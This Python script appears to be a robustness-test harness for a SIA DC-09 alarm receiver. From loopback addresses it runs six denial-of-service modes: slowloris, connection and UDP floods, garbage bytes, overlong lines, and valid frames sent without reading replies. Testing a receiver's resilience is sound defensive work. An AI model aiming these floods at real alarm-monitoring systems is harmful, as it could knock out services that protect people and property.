#!/usr/bin/env python3
"""One hostile peer against a DC-09 receiver, at the full rate one Python process reaches,
from a chosen loopback source address (127.0.0.2 and up), until SIGTERM or --duration.
Prints what it did as one JSON line at the end.

    attack.py KIND --to 127.0.0.1:PORT --from 127.0.0.2 [--duration 60]

KIND:
  garbage     random bytes (an LF now and then) on 4 connections, as fast as they are taken
  slowloris   3000 connections, each sending a byte a second: half a frame that never ends,
              or bytes that are not a frame
  longlines   70 kB lines without a CR, on 4 connections
  connflood   new connections as fast as they are accepted, closed at once
  udpflood    random datagrams of 1 to 1400 bytes
  noread      valid frames as fast as the receiver takes them, never reading the replies
"""
import argparse
import asyncio
import json
import os
import random
import signal
import socket
import sys
import time

STATS = {"connections": 0, "bytes": 0, "datagrams": 0, "frames": 0, "closed_by_peer": 0, "errors": 0}


def crc16_arc(data: bytes) -> int:
    crc = 0
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = (crc >> 1) ^ 0xA001 if crc & 1 else crc >> 1
    return crc


def frame(account: str, seq: int) -> bytes:
    body = f'"SIA-DCS"{seq % 10000:04d}L0#{account}[#{account}|Nri1/BA{seq % 100:02d}]'.encode()
    return b"\n" + f"{crc16_arc(body):04X}0{len(body):03X}".encode() + body + b"\r"


async def connect(host, port, source):
    r, w = await asyncio.open_connection(host, port, local_addr=(source, 0))
    STATS["connections"] += 1
    return r, w


async def writer_loop(host, port, source, chunk_fn, stop):
    """Writes chunk_fn() as fast as the connection takes it; opens another connection when
    this one is closed, or stops taking bytes for 2 s (the receiver stopped reading it):
    the stalled one is left open, as an attacker would."""
    stalled = []
    while not stop.is_set():
        try:
            _, w = await connect(host, port, source)
            while not stop.is_set():
                data = chunk_fn()
                w.write(data)
                try:
                    await asyncio.wait_for(w.drain(), 2)
                except asyncio.TimeoutError:
                    STATS["stalled"] = STATS.get("stalled", 0) + 1
                    stalled.append(w)
                    break
                STATS["bytes"] += len(data)
        except (ConnectionError, OSError):
            STATS["closed_by_peer"] += 1
            await asyncio.sleep(0.01)


async def garbage(host, port, source, stop):
    def chunk():
        b = bytearray(os.urandom(4096))
        for i in range(0, len(b), 97):
            b[i] = 0x0A
        return bytes(b)

    await asyncio.gather(*(writer_loop(host, port, source, chunk, stop) for _ in range(4)))


async def longlines(host, port, source, stop):
    line = b"\n" + bytes(random.choice(b"ABCDEFGHIJ0123456789") for _ in range(70_000))
    await asyncio.gather(*(writer_loop(host, port, source, lambda: line, stop) for _ in range(4)))


async def slow_one(host, port, source, stop, i):
    half_frame = frame(f"{900000 + i}", 1)[:-1] + b"x" * 100_000
    junk = bytes(random.choice(b"qwertyuiop") for _ in range(100_000))
    payload = half_frame if i % 2 == 0 else junk
    while not stop.is_set():
        try:
            _, w = await connect(host, port, source)
            for b in payload:
                if stop.is_set():
                    break
                w.write(bytes([b]))
                await w.drain()
                STATS["bytes"] += 1
                await asyncio.sleep(1.0)
        except (ConnectionError, OSError):
            STATS["closed_by_peer"] += 1
            await asyncio.sleep(1.0)


async def slowloris(host, port, source, stop):
    tasks = []
    for i in range(3000):
        tasks.append(asyncio.create_task(slow_one(host, port, source, stop, i)))
        if i % 100 == 99:
            await asyncio.sleep(0.05)
    await asyncio.gather(*tasks)


async def connflood(host, port, source, stop):
    async def one():
        while not stop.is_set():
            try:
                _, w = await connect(host, port, source)
                w.transport.abort()
            except (ConnectionError, OSError):
                STATS["errors"] += 1
                await asyncio.sleep(0.001)

    await asyncio.gather(*(one() for _ in range(32)))


async def noread(host, port, source, stop):
    async def one(n):
        seq = 0
        while not stop.is_set():
            try:
                s = socket.socket()
                s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                s.bind((source, 0))
                s.setblocking(False)
                await asyncio.get_running_loop().sock_connect(s, (host, port))
                _, w = await asyncio.open_connection(sock=s)
                STATS["connections"] += 1
                account = f"8{n:02d}{random.randrange(10**6):06d}"
                while not stop.is_set():
                    seq += 1
                    f = frame(account, seq)
                    w.write(f)
                    await w.drain()
                    STATS["frames"] += 1
                    STATS["bytes"] += len(f)
            except (ConnectionError, OSError):
                STATS["closed_by_peer"] += 1
                await asyncio.sleep(0.01)

    await asyncio.gather(*(one(n) for n in range(8)))


def udpflood(host, port, source, stop_at):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((source, 0))
    s.setblocking(False)
    rnd = os.urandom(1 << 16)
    while time.monotonic() < stop_at and not STOP:
        for _ in range(256):
            n = random.randint(1, 1400)
            at = random.randrange(len(rnd) - n)
            try:
                s.sendto(rnd[at:at + n], (host, port))
                STATS["datagrams"] += 1
                STATS["bytes"] += n
            except BlockingIOError:
                time.sleep(0.0005)
            except OSError:
                STATS["errors"] += 1


STOP = False


def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument("kind", choices=["garbage", "slowloris", "longlines", "connflood", "udpflood", "noread"])
    p.add_argument("--to", required=True)
    p.add_argument("--from", dest="source", default="127.0.0.2")
    p.add_argument("--duration", type=float, default=3600)
    a = p.parse_args()
    host, port = a.to.rsplit(":", 1)
    port = int(port)
    t0 = time.monotonic()

    def on_term(*_):
        global STOP
        STOP = True

    signal.signal(signal.SIGTERM, on_term)
    signal.signal(signal.SIGINT, on_term)
    if a.kind == "udpflood":
        udpflood(host, port, a.source, t0 + a.duration)
    else:
        async def run():
            stop = asyncio.Event()
            loop = asyncio.get_running_loop()
            loop.add_signal_handler(signal.SIGTERM, stop.set)
            loop.add_signal_handler(signal.SIGINT, stop.set)
            loop.call_later(a.duration, stop.set)
            work = asyncio.create_task(globals()[a.kind](host, port, a.source, stop))
            await stop.wait()
            work.cancel()
            try:
                await work
            except (asyncio.CancelledError, Exception):
                pass

        asyncio.run(run())
    STATS["kind"] = a.kind
    STATS["seconds"] = round(time.monotonic() - t0, 1)
    print(json.dumps(STATS), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
